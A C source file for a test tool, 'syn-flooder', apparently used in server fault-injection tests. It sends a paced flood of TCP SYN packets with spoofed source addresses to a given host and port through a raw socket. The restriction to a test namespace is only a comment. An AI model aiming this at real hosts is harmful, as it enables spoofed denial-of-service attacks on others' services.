/*
 * A bounded, paced SYN flood for the real-fault tests: sends COUNT TCP SYNs to DST:PORT at RATE
 * per second, each from a different spoofed source address (SRC_BASE + i mod SRC_SPAN) and port.
 * Run it only inside a test-made network namespace, where SRC_BASE/SRC_SPAN is routed as local
 * on loopback (`ip route add local ... dev lo`) and the SYN-ACKs are dropped, so nothing ever
 * answers the listener and every SYN leaves a request socket (SYN_RECV) behind.
 *
 * usage: syn-flooder DST PORT SRC_BASE SRC_SPAN RATE COUNT
 * Prints "SENT <n> <seconds>" at the end; exits non-zero with a one-line error on bad input.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint16_t checksum(const void *data, size_t length, uint32_t sum) {
  const uint8_t *bytes = data;
  for (size_t i = 0; i + 1 < length; i += 2) sum += (uint32_t)(bytes[i] << 8 | bytes[i + 1]);
  if (length & 1) sum += (uint32_t)(bytes[length - 1] << 8);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)~sum);
}

static double now_seconds(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static long parse_positive(const char *text, const char *what, long max) {
  char *end = NULL;
  long value = strtol(text, &end, 10);
  if (end == text || *end != '\0' || value <= 0 || value > max) {
    fprintf(stderr, "syn-flooder: %s must be an integer in 1..%ld, got \"%s\"\n", what, max, text);
    exit(2);
  }
  return value;
}

int main(int argc, char **argv) {
  if (argc != 7) {
    fprintf(stderr, "usage: syn-flooder DST PORT SRC_BASE SRC_SPAN RATE COUNT\n");
    return 2;
  }
  struct in_addr dst, src_base;
  if (inet_pton(AF_INET, argv[1], &dst) != 1 || inet_pton(AF_INET, argv[3], &src_base) != 1) {
    fprintf(stderr, "syn-flooder: DST and SRC_BASE must be IPv4 addresses\n");
    return 2;
  }
  uint16_t port = (uint16_t)parse_positive(argv[2], "PORT", 65535);
  uint32_t span = (uint32_t)parse_positive(argv[4], "SRC_SPAN", 1 << 24);
  long rate = parse_positive(argv[5], "RATE", 1000000);
  long count = parse_positive(argv[6], "COUNT", 10000000);

  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); /* IPPROTO_RAW implies IP_HDRINCL */
  if (fd < 0) {
    fprintf(stderr, "syn-flooder: raw socket: %s (needs root or CAP_NET_RAW)\n", strerror(errno));
    return 1;
  }

  struct {
    struct iphdr ip;
    struct tcphdr tcp;
    uint8_t options[4]; /* MSS 1460, as a real client would send */
  } __attribute__((packed)) packet;
  struct {
    uint32_t src, dst;
    uint8_t zero, protocol;
    uint16_t length;
  } __attribute__((packed)) pseudo;
  uint8_t sum_buffer[sizeof pseudo + sizeof packet.tcp + sizeof packet.options];

  struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};
  uint32_t base = ntohl(src_base.s_addr);
  srand((unsigned)getpid());
  double start = now_seconds();
  long sent = 0;
  for (long i = 0; i < count; i++) {
    /* Pace: packet i leaves at start + i/rate; sleep when ahead. */
    double due = start + (double)i / (double)rate;
    double ahead = due - now_seconds();
    if (ahead > 0.0005) {
      struct timespec pause = {.tv_sec = (time_t)ahead, .tv_nsec = (long)((ahead - (double)(time_t)ahead) * 1e9)};
      nanosleep(&pause, NULL);
    }

    memset(&packet, 0, sizeof packet);
    packet.ip.version = 4;
    packet.ip.ihl = 5;
    packet.ip.ttl = 64;
    packet.ip.protocol = IPPROTO_TCP;
    packet.ip.tot_len = htons(sizeof packet);
    packet.ip.id = htons((uint16_t)rand());
    packet.ip.saddr = htonl(base + (uint32_t)i % span);
    packet.ip.daddr = dst.s_addr;
    packet.ip.check = checksum(&packet.ip, sizeof packet.ip, 0);
    packet.tcp.source = htons((uint16_t)(1024 + rand() % 60000));
    packet.tcp.dest = htons(port);
    packet.tcp.seq = htonl((uint32_t)rand());
    packet.tcp.doff = (sizeof packet.tcp + sizeof packet.options) / 4;
    packet.tcp.syn = 1;
    packet.tcp.window = htons(64240);
    packet.options[0] = 2; /* kind: MSS */
    packet.options[1] = 4;
    packet.options[2] = 1460 >> 8;
    packet.options[3] = 1460 & 0xff;

    pseudo.src = packet.ip.saddr;
    pseudo.dst = packet.ip.daddr;
    pseudo.zero = 0;
    pseudo.protocol = IPPROTO_TCP;
    pseudo.length = htons(sizeof packet.tcp + sizeof packet.options);
    memcpy(sum_buffer, &pseudo, sizeof pseudo);
    memcpy(sum_buffer + sizeof pseudo, &packet.tcp, sizeof packet.tcp + sizeof packet.options);
    packet.tcp.check = checksum(sum_buffer, sizeof sum_buffer, 0);

    if (sendto(fd, &packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to) < 0) {
      fprintf(stderr, "syn-flooder: sendto: %s\n", strerror(errno));
      return 1;
    }
    sent++;
  }
  printf("SENT %ld %.2f\n", sent, now_seconds() - start);
  close(fd);
  return 0;
}
